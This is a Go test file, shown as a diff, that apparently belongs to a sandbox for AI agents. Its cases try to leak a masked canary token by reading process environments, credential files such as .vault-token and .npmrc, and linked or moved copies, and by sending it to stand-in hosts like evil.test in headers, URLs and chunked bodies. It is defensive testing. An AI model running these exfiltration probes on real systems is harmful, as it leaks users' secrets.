@@ -1,0 +1,220 @@
+//go:build linux
+
+package escape_test
+
+import (
+	"errors"
+	"fmt"
+	"os"
+	"strings"
+)
+
+// tokenValue is the value of the secret that is masked in these cases.
+const tokenValue = canary + "-token-7f3a"
+
+// tokenFlags bind it to api.test, and allow other hosts that are looked into.
+var tokenFlags = []string{
+	"--secret", "API_TOKEN=api.test", "--allow", "api.test,http://sub.api.test", "--ca", "ephemeral", "--allow", "GET,POST https://allowed.test/**", "--allow", "http://a.allowed.test",
+}
+
+var tokenEnv = append([]string{"API_TOKEN=" + tokenValue}, servers...)
+
+// placeholders are about secrets that stay outside.
+func placeholders() []escape {
+	masked := func(h *host) {
+		h.write("home/project/conf/token", tokenValue+"\n")
+		h.write("home/policy.json", h.expand(`{"network": {"allow": ["api.test"]}, "secrets": {
+			"file": {"file": "{work}/conf/token", "hosts": ["api.test"]},
+			"from": {"from_file": "{home}/.vault-token", "env": "FROM_FILE", "hosts": ["api.test"]},
+			"pass": {"from_command": ["/bin/cat", "{home}/.npmrc"], "env": "FROM_COMMAND", "hosts": ["api.test"]}}}`))
+	}
+	kept := func(h *host, _ outcome) error {
+		data, err := os.ReadFile(h.path("home/project/conf/token"))
+		if string(data) != tokenValue+"\n" {
+			err = errors.Join(err, fmt.Errorf("the host's file is %q now", data))
+		}
+		return err
+	}
+	api := &online{Good: []string{"api.test"}, Asks: []string{".test"}, Naive: true}
+	auth := probe{Good: true, Via: "connect", To: "api.test:443", TLS: true, Fields: "Authorization: Bearer @SECRET@\r\n"}
+	return []escape{
+		{
+			ID: "F24.6", Name: "a masked variable's value is in no variable, argument or file", Matrix: rowSecrets, Flags: tokenFlags, Net: &online{},
+			Env: append([]string{"COPY=" + tokenValue, "HARMLESS=a" + tokenValue}, tokenEnv...),
+			Sh: inside + `[ "$API_TOKEN" ] || echo BROKEN no placeholder; env; for f in $procs/environ $procs/cmdline $procs/task/*/environ; do tr '\0' '\n' <$f; done 2>/dev/null
+				cat $SSL_CERT_FILE; [ $inside ] && grep -r CANARY.41d /run/agent-sandbox /tmp /dev/shm {work} {home} 2>/dev/null; true`,
+		},
+		{
+			ID: "F24.7", Name: "a masked file shows its value under no name", Matrix: rowSecrets, Setup: masked, Flags: []string{"-c", "{home}/policy.json"}, Env: servers, Net: &online{},
+			Sh: `[ -s conf/token ] || echo BROKEN no placeholder; cat conf/token /proc/self/root{work}/conf/token /proc/self/cwd/conf/token; dd if=conf/token
+				ln conf/token t1; ln -s conf/token t2; cat t1 t2; cp -a conf copy; cat copy/token; echo x >conf/token; rm -f conf/token; mv conf/token t3; cat t3 conf/token
+				mv conf moved; cat moved/token; tar cf - . | tr '\0' '\n' | grep -a CANARY.41d; env; true`,
+			Hold: func(h *host, _ outcome) error {
+				// The host's tree may be moved about by the command, with the real file in it.
+				for _, name := range []string{"conf/token", "moved/token"} {
+					if data, err := os.ReadFile(h.path("home/project/" + name)); err == nil && string(data) == tokenValue+"\n" {
+						return nil
+					}
+				}
+				return errors.New("the host's file is gone, or changed")
+			},
+		},
+		{
+			ID: "F24.8", Name: "nor to a later command, whatever this one leaves behind", Matrix: rowSecrets, Setup: masked, Env: servers, Net: &online{}, Ends: true, Hold: kept,
+			Launch: []string{"/bin/sh", "-c", `box='{base}/../agent-sandbox exec -q -c {home}/policy.json --'
+				$box sh -c 'mv conf moved; mkdir conf; ln moved/token t1; mv conf/token t2; rm -rf conf; ln -s moved conf; mkdir -p conf; echo x >conf/token'
+				$box sh -c 'cat conf/token moved/token t1 t2; grep -r CANARY.41d .'; true`},
+			Args: []string{"/bin/sh", "-c", `mv conf moved; cat moved/token`},
+		},
+		{
+			ID: "F24.9", Name: "no process that runs for it has a value in its arguments or environment", Matrix: rowSecrets, Setup: masked, Flags: []string{"-c", "{home}/policy.json"},
+			Env: servers, Net: &online{}, Hold: noted,
+			Sh: inside + `[ ! $inside ] || [ "$FROM_FILE" -a "$FROM_COMMAND" ] || echo BROKEN no placeholders; echo ready; read go`,
+			During: func(h *host, _ *attempt) {
+				all := h.processes()
+				if len(all) == 0 {
+					h.note("BROKEN: no processes")
+				}
+				for _, p := range all {
+					for _, name := range []string{"cmdline", "environ"} {
+						data, err := os.ReadFile(fmt.Sprintf("/proc/%d/%s", p.pid, name))
+						if err == nil && strings.Contains(string(data), canary) {
+							h.note("a value is in %s of %s", name, p.text)
+						}
+					}
+				}
+			},
+			Control: control{Setup: func(h *host) {
+				cmd := h.command(h.home, h.vars["attacker"], "sleep", tokenValue)
+				h.must(cmd.Start())
+				h.closers = append(h.closers, func() { _, _ = cmd.Process.Kill(), cmd.Wait() })
+			}},
+		},
+		{
+			ID: "F24.10", Name: "nothing that agent-sandbox prints or records has a value in it", Matrix: rowSecrets, Setup: masked, Env: append(tokenEnv, "COPY="+tokenValue), Net: &online{}, Ends: true,
+			Launch: []string{"/bin/sh", "-c", `box={base}/../agent-sandbox; flags='` + strings.Join(tokenFlags[:4], " ") + ` --allow http://a.allowed.test'
+				for how in --json --debug --dry-run '--record {scratch}.jsonc'; do
+					for c in 'curl -s -H @- http://a.allowed.test/' 'curl -s -H @- https://api.test:9/' 'curl -s -H @- http://127.0.0.1:3128/' 'no-such-program'; do
+						$box exec $how $flags -- sh -c "echo X: \$API_TOKEN | $c; echo >/etc/x"; done; done
+				cat {scratch}.jsonc; rm -f {scratch}.jsonc
+				for x in '' API_TOKEN COPY host api.test; do $box explain $flags $x; $box explain --json $flags $x; $box explain -c {home}/policy.json $x; done
+				$box exec --secret API_TOKEN=x..y -- true; $box exec --secret NOT=api.test -- true; $box exec --secret API_TOKEN=api.test --network -- true
+				BAD="$(printf 'a\n%s' $API_TOKEN)" $box exec --secret BAD=api.test -- true; $box doctor; $box exec -c {home}/policy.json --debug -- sh -c 'cat conf/token'; true`},
+			Args: []string{"/bin/sh", "-c", "env"},
+		},
+		{
+			ID: "F24.11", Name: "a value does not go to a server that is not who it says, and into no error", Matrix: rowSecrets, Env: tokenEnv,
+			Flags: []string{"--secret", "API_TOKEN=badcert.test,api.test:9,api.test", "--allow", "badcert.test,api.test,api.test:9", "--ca", "ephemeral"},
+			Net:   &online{Good: []string{"api.test", "badcert.test"}, Naive: true}, Hold: onlyBound,
+			Go: sends(auth, probe{Via: "connect", To: "badcert.test:443", TLS: true, Fields: "Authorization: Bearer @SECRET@\r\n"},
+				probe{Via: "connect", To: "api.test:9", TLS: true, Fields: "Authorization: @SECRET@\r\n"}, probe{Via: "connect", To: "evil.test:443", TLS: true, Fields: "Authorization: @SECRET@\r\n"}),
+		},
+		{
+			ID: "F24.12", Name: "a placeholder is refused on its way to another host: URL, query, field, name, cookie, login", Matrix: rowSecrets,
+			Env: tokenEnv, Flags: tokenFlags, Net: api, Hold: onlyBound, Go: sends(append([]probe{auth}, elsewhere()...)...),
+		},
+		{
+			ID: "F24.13", Name: "and in a body, however it is cut", Matrix: rowSecrets, Env: tokenEnv, Flags: tokenFlags, Hold: onlyBound,
+			Net: &online{Good: []string{"api.test", "allowed.test", "a.allowed.test"}, Naive: true}, Go: sends(append([]probe{auth}, bodies()...)...),
+		},
+		{
+			ID: "F24.14", Name: "a value goes into the one field of the one host and port that it is bound to", Matrix: rowSecrets, Env: servers,
+			Setup: func(h *host) {
+				h.write("home/policy.json", `{"network": {"allow": ["api.test", "GET https://api.test:8443/**", "GET https://sub.api.test/**", "http://api.test"], "ca": "ephemeral"}, "secrets": {
+					"API_TOKEN": {"from_file": "~/.vault-token", "hosts": ["api.test"], "header": "Authorization"}}}`)
+				h.vars["sent"] = canary
+			},
+			Flags: []string{"-c", "{home}/policy.json"}, Net: &online{Good: []string{"api.test"}, Asks: []string{"sub.api.test"}, Naive: true}, Hold: onlyBound,
+			Sh: inside + `[ $inside ] || API_TOKEN=$(cat {home}/.vault-token); export API_TOKEN; {attacker} ` + strings.Join(sends(
+				auth, probe{Good: true, Via: "connect", To: "api.test:443", TLS: true, Target: "/@SECRET@?@SECRET@", Fields: "X-Other: @SECRET@\r\nCookie: a=@SECRET@\r\nContent-Length: @LENGTH@\r\n", Body: "@SECRET@"},
+				probe{Via: "plain", To: "http://api.test/", Fields: "Authorization: @SECRET@\r\n"}, probe{Via: "connect", To: "api.test:80", Fields: "Authorization: @SECRET@\r\n"},
+				probe{Via: "connect", To: "api.test:8443", TLS: true, Fields: "Authorization: @SECRET@\r\n"}, probe{Via: "connect", To: "sub.api.test:443", TLS: true, Fields: "Authorization: @SECRET@\r\n"},
+				probe{Via: "connect", To: "api.test:443", TLS: true, Host: "evil.test", Fields: "Authorization: @SECRET@\r\n"}), " "),
+		},
+		{
+			ID: "F24.15", Name: "neither the key of a CA that is made for the run nor the login of an upstream proxy is seen", Matrix: rowSecrets, Net: &online{},
+			Setup: func(h *host) {
+				h.write("home/.config/agent-sandbox/config.jsonc", `{"network": {"allow": ["GET https://allowed.test/**"], "ca": "ephemeral", "upstream": "http://me:`+canary+`@93.184.216.50:80"}}`)
+			},
+			Sh: inside + `[ ! $inside ] || [ -s "$SSL_CERT_FILE" ] || echo BROKEN no CA; grep -rl 'PRIVATE KEY' /run/agent-sandbox $SSL_CERT_FILE && echo OPEN a key
+				cat {home}/.config/agent-sandbox/config.jsonc; cat /proc/self/root{home}/.config/agent-sandbox/*; env; for f in $procs/environ $procs/cmdline; do tr '\0' '\n' <$f; done 2>/dev/null; true`,
+		},
+		{
+			ID: "F24.16", Name: "neither is the key of a CA of one's own", Matrix: rowSecrets, Net: &online{},
+			Setup: func(h *host) { h.write("home/own-ca.pem", theWorld.authority.pem) },
+			Flags: []string{"--ca", "{home}/own-ca.pem", "--allow", "GET https://allowed.test/**"},
+			Sh: inside + `[ ! $inside ] || [ -s "$SSL_CERT_FILE" ] || echo BROKEN no CA; for f in {home}/own-ca.pem /proc/self/root{home}/own-ca.pem $SSL_CERT_FILE; do grep 'PRIVATE KEY' $f && echo OPEN $f; done
+				ln {home}/own-ca.pem own; cp {home}/own-ca.pem own; mv {home}/own-ca.pem own; grep 'PRIVATE KEY' own && echo OPEN own; true`,
+		},
+	}
+}
+
+// sends makes the arguments of an attack that sends the token.
+func sends(list ...probe) []string {
+	return append([]string{"send", "API_TOKEN"}, probes(list...)[1:]...)
+}
+
+// elsewhere are requests with a placeholder to hosts that the secret is not bound to.
+func elsewhere() []probe {
+	var out []probe
+	for _, p := range []probe{{Via: "connect", To: "allowed.test:443", TLS: true}, {Via: "plain", To: "http://a.allowed.test/"}, {Via: "connect", To: "a.allowed.test:80"}} {
+		for _, fields := range []string{
+			"Authorization: Bearer @SECRET@", "Authorization: Basic @BASIC@", "authorization: basic   @BASIC@", "Cookie: a=b; t=@SECRET@", "X-@SECRET@: x", "User-Agent: x@SECRET@y",
+			"X-Api-Key: @SECRET@\r\nAuthorization: x",
+		} {
+			p.Fields = fields + "\r\n"
+			out = append(out, p)
+		}
+		p.Fields = ""
+		for _, target := range []string{"/?q=@SECRET@", "/@SECRET@", "/?q=@ESCAPED@", "/a/@ESCAPED@/b", "/?a=%41&b=x@SECRET@"} {
+			p.Target = target
+			if p.Via == "plain" {
+				p.Target = "http://a.allowed.test" + target
+			}
+			out = append(out, p)
+		}
+	}
+	return out
+}
+
+// bodies are cut so that no piece has all of the placeholder.
+func bodies() []probe {
+	var out []probe
+	for _, p := range []probe{{Via: "connect", To: "allowed.test:443", TLS: true}, {Via: "plain", To: "http://a.allowed.test/"}} {
+		p.Method, p.Expect = "POST", verdictPermitted
+		p.Fields, p.Body = "Content-Length: @LENGTH@\r\n", "@SECRET@"
+		out = append(out, p)
+		p.Fields = "Transfer-Encoding: chunked\r\n"
+		p.Body = "@HALFLENGTH@\r\n@HALF@\r\n@RESTLENGTH@\r\n@REST@\r\n0\r\n\r\n"
+		out = append(out, p)
+		p.Body = "1;x=y\r\na\r\n" + p.Body
+		out = append(out, p)
+	}
+	return out
+}
+
+// onlyBound holds when what was sent as the token, and the value itself, came only to
+// where it is bound to, and when the value did come there.
+func onlyBound(h *host, _ outcome) error {
+	sent, err := os.ReadFile(h.path("home/project/sent"))
+	if err != nil || len(sent) < len(canary) {
+		return errors.Join(errNotTried, err, fmt.Errorf("sent %q", sent))
+	}
+	var errs []error
+	arrived := false
+	for _, v := range theWorld.seen() {
+		bound := v.host == "api.test" && v.tls && v.to.Port() == 443
+		if bound && strings.Contains(v.header.Get("Authorization"), canary) {
+			arrived = true
+			v.header.Del("Authorization")
+		}
+		text := v.String()
+		if strings.Contains(text, canary) || !bound && strings.Contains(text, string(sent)) {
+			errs = append(errs, fmt.Errorf("this came to where it must not: %s", text))
+		}
+	}
+	if !arrived {
+		errs = append(errs, fmt.Errorf("%w: the value did not come to where it is bound to", errNotTried))
+	}
+	return errors.Join(errs...)
+}
